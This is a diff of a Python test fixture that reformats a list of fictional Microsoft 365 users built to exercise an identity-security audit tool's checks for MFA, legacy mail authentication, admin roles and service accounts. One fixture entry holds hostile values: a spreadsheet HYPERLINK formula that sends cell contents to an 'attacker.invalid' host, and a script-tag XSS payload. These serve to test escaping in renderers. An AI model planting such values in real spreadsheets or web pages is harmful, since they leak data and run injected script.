@@ -78,167 +78,62 @@ class Person:
     synced: bool = False
 
 
+# fmt: off
 _MATRIX_NAMES = (
-    ("allan.deyoung", "Allan Deyoung"),
-    ("debra.berger", "Debra Berger"),
-    ("emily.braun", "Emily Braun"),
-    ("enrico.cattaneo", "Enrico Cattaneo"),
-    ("gerhart.moller", "Gerhart Møller"),
-    ("isabella.simonsen", "Isabella Simonsen"),
-    ("jonas.thorsen", "Jonas Thorsen"),
-    ("kirsten.madsen", "Kirsten Madsen"),
-    ("lara.castell", "Lara Castell"),
-    ("malik.bauer", "Malik Bauer"),
-    ("nora.lindqvist", "Nora Lindqvist"),
-    ("omar.haddad", "Omar Haddad"),
+    ("allan.deyoung", "Allan Deyoung"), ("debra.berger", "Debra Berger"), ("emily.braun", "Emily Braun"),
+    ("enrico.cattaneo", "Enrico Cattaneo"), ("gerhart.moller", "Gerhart Møller"),
+    ("isabella.simonsen", "Isabella Simonsen"), ("jonas.thorsen", "Jonas Thorsen"),
+    ("kirsten.madsen", "Kirsten Madsen"), ("lara.castell", "Lara Castell"), ("malik.bauer", "Malik Bauer"),
+    ("nora.lindqvist", "Nora Lindqvist"), ("omar.haddad", "Omar Haddad"),
 )
 # Every combination of ImapEnabled x PopEnabled x SmtpClientAuthenticationDisabled (true/false/null).
-_MATRIX = tuple(
-    (imap, pop, smtp) for imap in (False, True) for pop in (False, True) for smtp in (True, False, None)
-)
+_MATRIX = tuple((imap, pop, smtp) for imap in (False, True) for pop in (False, True)
+                for smtp in (True, False, None))
+_GA, _ACTIVE = "Global Administrator", "active"
 
 SCENARIOS: tuple[Person, ...] = (
-    # Admins. admin-app-passwords critical/observed (per-user MFA enforced + successful legacy SMTP).
-    Person(
-        "adele.vance",
-        "Adele Vance",
-        "IT Director",
-        "IT",
-        mfa="enforced",
-        last=1,
-        mailbox=(True, False, False),
-        roles=(("Global Administrator", "active"),),
-    ),
-    # admin-app-passwords high/possible (per-user MFA enabled, no legacy sign-ins).
-    Person(
-        "alex.wilber",
-        "Alex Wilber",
-        "Identity Engineer",
-        "IT",
-        mfa="enabled",
-        mailbox=(False, True, None),
-        roles=(("User Administrator", "active"),),
-    ),
+    # --- Admins (role holders) ---
+    # admin-app-passwords critical/observed: per-user MFA enforced + successful legacy SMTP sign-ins.
+    Person("adele.vance", "Adele Vance", "IT Director", "IT", mfa="enforced", last=1,
+           mailbox=(True, False, False), roles=((_GA, _ACTIVE),)),
+    # admin-app-passwords high/possible: per-user MFA enabled, no legacy sign-ins.
+    Person("alex.wilber", "Alex Wilber", "Identity Engineer", "IT", mfa="enabled",
+           mailbox=(False, True, None), roles=(("User Administrator", _ACTIVE),)),
     # PIM-eligible only.
-    Person(
-        "isaiah.langer",
-        "Isaiah Langer",
-        "Security Analyst",
-        "Security",
-        roles=(("Security Administrator", "eligible"),),
-    ),
-    # Exchange Administrator through the role-assignable group "Tier0 Admins".
+    Person("isaiah.langer", "Isaiah Langer", "Security Analyst", "Security",
+           roles=(("Security Administrator", "eligible"),)),
+    # Exchange Administrator through the role-assignable group "Tier0 Admins" (TIER0_ROLE).
     Person("megan.bowen", "Megan Bowen", "Messaging Engineer", "IT", mailbox=(True, True, None), tier0=True),
     # admin-no-mfa-method.
-    Person(
-        "lee.gu",
-        "Lee Gu",
-        "Service Desk Lead",
-        "IT",
-        registered=False,
-        mailbox=(False, False, None),
-        roles=(("Helpdesk Administrator", "active"),),
-    ),
+    Person("lee.gu", "Lee Gu", "Service Desk Lead", "IT", registered=False, mailbox=(False, False, None),
+           roles=(("Helpdesk Administrator", _ACTIVE),)),
     # guest-admin.
-    Person(
-        "patti.fernandez@fabrikam.com",
-        "Patti Fernandez (Fabrikam)",
-        None,
-        None,
-        guest=True,
-        last=10,
-        mailbox=None,
-        staff=False,
-        roles=(("Reports Reader", "active"),),
-    ),
-    # stale-admin (last sign-in 200 days ago) and never signed in.
-    Person(
-        "diego.siciliani",
-        "Diego Siciliani",
-        "Finance Manager",
-        "Finance",
-        last=200,
-        non_interactive=False,
-        roles=(("Billing Administrator", "active"),),
-    ),
-    Person(
-        "grady.archie",
-        "Grady Archie",
-        "Auditor",
-        "Finance",
-        last=None,
-        created=150,
-        roles=(("Global Reader", "active"),),
-    ),
+    Person("patti.fernandez@fabrikam.com", "Patti Fernandez (Fabrikam)", None, None, guest=True, last=10,
+           mailbox=None, staff=False, roles=(("Reports Reader", _ACTIVE),)),
+    # stale-admin: last sign-in 200 days ago, and never signed in.
+    Person("diego.siciliani", "Diego Siciliani", "Finance Manager", "Finance", last=200,
+           non_interactive=False, roles=(("Billing Administrator", _ACTIVE),)),
+    Person("grady.archie", "Grady Archie", "Auditor", "Finance", last=None, created=150,
+           roles=(("Global Reader", _ACTIVE),)),
     # Clean admin: no per-user MFA, registered, recent sign-in, mailbox locked down.
-    Person(
-        "nestor.wilke",
-        "Nestor Wilke",
-        "Collaboration Lead",
-        "IT",
-        roles=(("SharePoint Administrator", "active"),),
-    ),
-    # Break-glass Global Admin, excluded from the MFA CA policies (ca-mfa-excluded).
-    Person(
-        BREAKGLASS,
-        "Break Glass (emergency access)",
-        None,
-        None,
-        methods=FIDO2,
-        last=25,
-        mailbox=None,
-        staff=False,
-        roles=(("Global Administrator", "active"),),
-    ),
-    # Service accounts (default UPN regex). svc-scanner: per-user MFA enforced must NOT fire
-    # daily-account-per-user-mfa; IMAP + SMTP AUTH on; successful legacy SMTP; excluded from legacy block.
-    Person(
-        "svc-scanner",
-        "Scanner Service",
-        None,
-        None,
-        mfa="enforced",
-        registered=False,
-        last=0.2,
-        mailbox=(True, False, False),
-        staff=False,
-        service=True,
-    ),
-    # svc-relay: pinned to HQ by a CA block-outside-location policy (must NOT fire ca-mfa-excluded).
-    Person(
-        "svc-relay",
-        "SMTP Relay",
-        None,
-        None,
-        registered=False,
-        last=0.3,
-        mailbox=(False, False, False),
-        staff=False,
-        service=True,
-    ),
-    Person(
-        "noreply",
-        "No Reply",
-        None,
-        None,
-        registered=False,
-        last=3,
-        mailbox=(False, False, None),
-        staff=False,
-        service=True,
-    ),
-    Person(
-        "printer-3f",
-        "Printer 3rd Floor",
-        None,
-        None,
-        registered=False,
-        last=1,
-        mailbox=(False, True, None),
-        staff=False,
-        service=True,
-    ),
-    # Daily accounts with per-user MFA (daily-account-per-user-mfa: medium enforced / low enabled).
+    Person("nestor.wilke", "Nestor Wilke", "Collaboration Lead", "IT",
+           roles=(("SharePoint Administrator", _ACTIVE),)),
+    # Break-glass Global Admin excluded from the MFA CA policies (ca-mfa-excluded, high).
+    Person(BREAKGLASS, "Break Glass (emergency access)", None, None, methods=FIDO2, last=25, mailbox=None,
+           staff=False, roles=((_GA, _ACTIVE),)),
+    # --- Service accounts (default UPN regex; all in the "Service Accounts" group) ---
+    # svc-scanner: per-user MFA enforced must NOT fire daily-account-per-user-mfa; IMAP + SMTP AUTH on;
+    # successful legacy SMTP; in All Staff but excluded from its legacy-auth block (legacy-auth-block-excluded).
+    Person("svc-scanner", "Scanner Service", None, None, mfa="enforced", registered=False, last=0.2,
+           mailbox=(True, False, False), service=True),
+    # svc-relay: pinned to HQ by a block-outside-location policy (must NOT fire ca-mfa-excluded).
+    Person("svc-relay", "SMTP Relay", None, None, registered=False, last=0.3, mailbox=(False, False, False),
+           staff=False, service=True),
+    Person("noreply", "No Reply", None, None, registered=False, last=3, mailbox=(False, False, None),
+           staff=False, service=True),
+    Person("printer-3f", "Printer 3rd Floor", None, None, registered=False, last=1,
+           mailbox=(False, True, None), staff=False, service=True),
+    # --- Daily accounts with per-user MFA (daily-account-per-user-mfa: enforced medium, enabled low) ---
     Person("joni.sherman", "Joni Sherman", "Paralegal", "Legal", mfa="enforced"),
     Person("lynne.robbins", "Lynne Robbins", "Planner", "Operations", mfa="enforced", synced=True),
     Person("miriam.graham", "Miriam Graham", "Director", "Sales", mfa="enforced"),
@@ -246,38 +141,23 @@ SCENARIOS: tuple[Person, ...] = (
     Person("lidia.holloway", "Lidia Holloway", "Product Manager", "Engineering", mfa="enabled", synced=True),
     Person("henrietta.mueller", "Henrietta Müller", "Developer", "Engineering", mfa="enabled"),
     # Disabled accounts with per-user MFA enforced: must NOT fire.
-    Person(
-        "christie.cline", "Christie Cline", "Buyer", "Procurement", mfa="enforced", enabled=False, last=150
-    ),
-    Person(
-        "irvin.sayers",
-        "Irvin Sayers",
-        "Engineer",
-        "Engineering",
-        mfa="enforced",
-        enabled=False,
-        last=300,
-        mailbox=None,
-    ),
-    # Mailbox matrix: every IMAP x POP x SMTP AUTH combination.
-    *(
-        Person(key, name, "Specialist", "Operations", mailbox=combo)
-        for (key, name), combo in zip(_MATRIX_NAMES, _MATRIX, strict=True)
-    ),
-    # Legacy sign-ins by daily users; uma.patel has failed attempts only (must NOT fire).
+    Person("christie.cline", "Christie Cline", "Buyer", "Procurement", mfa="enforced", enabled=False,
+           last=150),
+    Person("irvin.sayers", "Irvin Sayers", "Engineer", "Engineering", mfa="enforced", enabled=False,
+           last=300, mailbox=None),
+    # --- Mailbox matrix: every IMAP x POP x SMTP AUTH combination ---
+    *(Person(key, name, "Specialist", "Operations", mailbox=combo)
+      for (key, name), combo in zip(_MATRIX_NAMES, _MATRIX, strict=True)),
+    # --- Legacy sign-ins by daily users; uma.patel has failed attempts only (must NOT fire) ---
     Person("ryan.hart", "Ryan Hart", "Analyst", "Finance", mailbox=(True, True, True)),
     Person("sofia.marin", "Sofía Marín", "Field Engineer", "Operations"),
     Person("tomas.kral", "Tomáš Král", "Technician", "Facilities"),
     Person("uma.patel", "Uma Patel", "Analyst", "Sales"),
-    # Hostile values: renderers must escape HTML and neutralise spreadsheet formulas.
-    Person(
-        "eve.mallory",
-        '=HYPERLINK("http://attacker.invalid/?x="&A1,"Eve")',
-        '<script>alert("title")</script>',
-        "R&D <Lab>",
-        mailbox=(True, False, None),
-    ),
+    # --- Hostile values: renderers must escape HTML and neutralise spreadsheet formulas ---
+    Person("eve.mallory", '=HYPERLINK("http://attacker.invalid/?x="&A1,"Eve")',
+           '<script>alert("title")</script>', "R&D <Lab>", mailbox=(True, False, None)),
 )
+# fmt: on
 
 
 @dataclass(frozen=True)
